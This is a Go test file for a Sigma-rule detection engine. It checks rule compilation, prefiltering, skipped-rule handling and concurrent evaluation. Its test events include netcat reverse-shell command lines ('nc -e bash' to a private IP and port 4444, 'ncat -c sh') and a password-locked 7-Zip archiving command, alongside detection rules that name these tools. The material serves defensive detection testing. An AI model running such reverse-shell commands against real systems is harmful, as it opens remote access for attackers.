package engine

import (
	"errors"
	"reflect"
	"sync"
	"testing"

	"github.com/PhucNguyen204/sigma-detect/pkg/condition"
	"github.com/PhucNguyen204/sigma-detect/pkg/sigma"
)

func mustLoadRule(t *testing.T, doc string) sigma.RuleIR {
	t.Helper()
	r, err := sigma.LoadRuleYAML([]byte(doc))
	if err != nil {
		t.Fatalf("load rule: %v", err)
	}
	return r
}

const rule7zip = `
title: Compress Data and Lock With Password for Exfiltration With 7-ZIP
id: 9fbf5927-5261-4284-a71d-f681029ea574
level: medium
logsource:
  category: process_creation
  product: windows
detection:
  selection_img:
    - Description|contains: '7-Zip'
    - Image|endswith:
        - '\7z.exe'
        - '\7zr.exe'
        - '\7za.exe'
    - OriginalFileName:
        - '7z.exe'
        - '7za.exe'
  selection_password:
    CommandLine|contains: ' -p'
  selection_action:
    CommandLine|contains:
      - ' a '
      - ' u '
  condition: all of selection_*
`

const ruleNetcat = `
title: Potential Netcat Reverse Shell Execution
id: 7f734ed0-4f47-46c0-837f-6ee62505abd9
level: high
logsource:
  category: process_creation
  product: linux
detection:
  selection_nc:
    Image|endswith:
      - '/nc'
      - '/ncat'
  selection_flags:
    CommandLine|contains:
      - ' -c '
      - ' -e '
  selection_shell:
    CommandLine|contains:
      - ' ash'
      - ' bash'
      - ' sh'
  condition: all of selection_*
`

const ruleNoLiterals = `
title: Unusual Port
id: port-rule
detection:
  selection:
    DestinationPort|gt: 50000
  filter:
    Image|re: '.*svchost.*'
  condition: selection and not filter
`

const ruleNegated = `
title: Not System
id: not-system
detection:
  selection:
    User: SYSTEM
  condition: not selection
`

func compileAll(t *testing.T, docs ...string) *Engine {
	t.Helper()
	var rs []sigma.RuleIR
	for _, d := range docs {
		rs = append(rs, mustLoadRule(t, d))
	}
	eng, skipped := Compile(rs, sigma.NewFieldMapping(nil), DefaultOptions())
	if len(skipped) != 0 {
		t.Fatalf("unexpected skipped rules: %v", skipped)
	}
	return eng
}

func TestEvaluate_7zipOnly(t *testing.T) {
	eng := compileAll(t, rule7zip, ruleNetcat)
	ev := map[string]any{
		"Image":            `C:\Program Files\7-Zip\7z.exe`,
		"CommandLine":      `7z.exe a out.7z C:\data\* -pS3cret`,
		"Description":      `7-Zip Console`,
		"OriginalFileName": `7z.exe`,
	}
	ids, err := eng.Evaluate(ev)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(ids, []string{"9fbf5927-5261-4284-a71d-f681029ea574"}) {
		t.Fatalf("expected only the 7zip rule, got %v", ids)
	}
}

func TestEvaluate_NetcatOnly(t *testing.T) {
	eng := compileAll(t, rule7zip, ruleNetcat)
	ev := map[string]any{
		"Image":       `/usr/bin/nc`,
		"CommandLine": `nc -e bash 192.168.1.100 4444`,
	}
	ids, err := eng.Evaluate(ev)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(ids, []string{"7f734ed0-4f47-46c0-837f-6ee62505abd9"}) {
		t.Fatalf("expected only the netcat rule, got %v", ids)
	}
}

func TestEvaluate_RuleWithoutLiteralsStillEvaluated(t *testing.T) {
	eng := compileAll(t, rule7zip, ruleNoLiterals)
	ids, err := eng.Evaluate(map[string]any{"DestinationPort": 51234, "Image": "/usr/bin/curl"})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(ids, []string{"port-rule"}) {
		t.Fatalf("got %v", ids)
	}
	ids, _ = eng.Evaluate(map[string]any{"DestinationPort": 51234, "Image": `C:\Windows\svchost.exe`})
	if len(ids) != 0 {
		t.Fatalf("filter should suppress, got %v", ids)
	}
}

func TestEvaluate_NegatedRuleIsNotPrefiltered(t *testing.T) {
	eng := compileAll(t, ruleNegated)
	ids, err := eng.Evaluate(map[string]any{"User": "alice"})
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(ids, []string{"not-system"}) {
		t.Fatalf("got %v", ids)
	}
}

func TestCompile_SkipsInvalidRules(t *testing.T) {
	docs := map[string]string{
		"aggregation": "title: agg\nid: agg\ndetection:\n  sel:\n    a: b\n  condition: sel | count() > 5\n",
		"unresolved":  "title: unres\nid: unres\ndetection:\n  sel:\n    a: b\n  condition: sel and missing\n",
		"syntax":      "title: syn\nid: syn\ndetection:\n  sel:\n    a: b\n  condition: sel and\n",
		"empty":       "title: empty\nid: empty\ndetection:\n  sel:\n    a: b\n  condition: ''\n",
		"regex":       "title: re\nid: re\ndetection:\n  sel:\n    a|re: '(unclosed'\n  condition: sel\n",
	}
	var rs []sigma.RuleIR
	for _, d := range docs {
		rs = append(rs, mustLoadRule(t, d))
	}
	good := mustLoadRule(t, rule7zip)
	rs = append(rs, good, good)

	eng, skipped := Compile(rs, sigma.NewFieldMapping(nil), DefaultOptions())
	if eng.Len() != 1 {
		t.Fatalf("expected 1 compiled rule, got %d", eng.Len())
	}
	kinds := map[string]string{}
	for _, s := range skipped {
		kinds[s.ID] = s.Kind()
	}
	want := map[string]string{
		"agg":   "aggregation",
		"unres": "unresolved_reference",
		"syn":   "syntax",
		"empty": "empty_condition",
		"re":    "invalid_regex",
		good.ID: "duplicate",
	}
	if !reflect.DeepEqual(kinds, want) {
		t.Fatalf("skipped kinds = %v, want %v", kinds, want)
	}
	for _, s := range skipped {
		if s.ID == "unres" && !errors.Is(s.Err, condition.ErrUnresolvedReference) {
			t.Fatalf("unresolved rule error = %v", s.Err)
		}
	}
}

func TestEngine_RuleLookup(t *testing.T) {
	eng := compileAll(t, rule7zip, ruleNetcat)
	r, ok := eng.Rule("7f734ed0-4f47-46c0-837f-6ee62505abd9")
	if !ok || r.IR.Level != "high" {
		t.Fatalf("Rule lookup = %+v, %v", r.IR, ok)
	}
	if _, ok := eng.Rule("nope"); ok {
		t.Fatalf("unexpected rule")
	}
	rules := eng.Rules()
	if len(rules) != 2 || rules[0].IR.ID > rules[1].IR.ID {
		t.Fatalf("Rules() not sorted: %v, %v", rules[0].IR.ID, rules[1].IR.ID)
	}
}

func TestEvaluate_ConditionList(t *testing.T) {
	eng := compileAll(t, `
title: list
id: list
detection:
  a:
    Image|endswith: '\cmd.exe'
  b:
    Image|endswith: '\pwsh.exe'
  condition:
    - a
    - b
`)
	for _, img := range []string{`C:\cmd.exe`, `C:\pwsh.exe`} {
		ids, err := eng.Evaluate(map[string]any{"Image": img})
		if err != nil || len(ids) != 1 {
			t.Fatalf("Evaluate(%s) = %v, %v", img, ids, err)
		}
	}
}

func TestEvaluate_PrefilterAgreesWithFullEvaluation(t *testing.T) {
	docs := []string{rule7zip, ruleNetcat, ruleNoLiterals, ruleNegated, `
title: keywords
id: kw
detection:
  keywords:
    - 'SuspiciousOperation'
    - 'DisallowedHost'
  condition: keywords
`}
	var rs []sigma.RuleIR
	for _, d := range docs {
		rs = append(rs, mustLoadRule(t, d))
	}
	withPF, _ := Compile(rs, sigma.NewFieldMapping(nil), DefaultOptions())
	opts := DefaultOptions()
	opts.DisablePrefilter = true
	without, _ := Compile(rs, sigma.NewFieldMapping(nil), opts)

	events := []map[string]any{
		{},
		{"Message": "Django error: SuspiciousOperation in view"},
		{"Image": `/usr/bin/ncat`, "CommandLine": "ncat -c sh 10.0.0.1"},
		{"Image": `C:\7zr.exe`, "CommandLine": "7zr u x.7z -pX", "User": "SYSTEM"},
		{"nested": map[string]any{"Image": "/bin/nc"}, "list": []any{"a", 1, true}},
		{"Pid": 1234, "DestinationPort": "60000"},
	}
	for _, ev := range events {
		a, err1 := withPF.Evaluate(ev)
		b, err2 := without.Evaluate(ev)
		if err1 != nil || err2 != nil {
			t.Fatalf("errors: %v %v", err1, err2)
		}
		if !reflect.DeepEqual(a, b) {
			t.Fatalf("event %v: prefiltered %v, full %v", ev, a, b)
		}
	}
}

func TestEvaluate_Concurrent(t *testing.T) {
	eng := compileAll(t, rule7zip, ruleNetcat)
	ev := map[string]any{
		"Image":       `/usr/bin/nc`,
		"CommandLine": `nc -e bash 192.168.1.100 4444`,
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	var failures int
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				ids, err := eng.Evaluate(ev)
				if err != nil || len(ids) != 1 {
					mu.Lock()
					failures++
					mu.Unlock()
				}
			}
		}()
	}
	wg.Wait()
	if failures != 0 {
		t.Fatalf("%d concurrent evaluations failed", failures)
	}
}
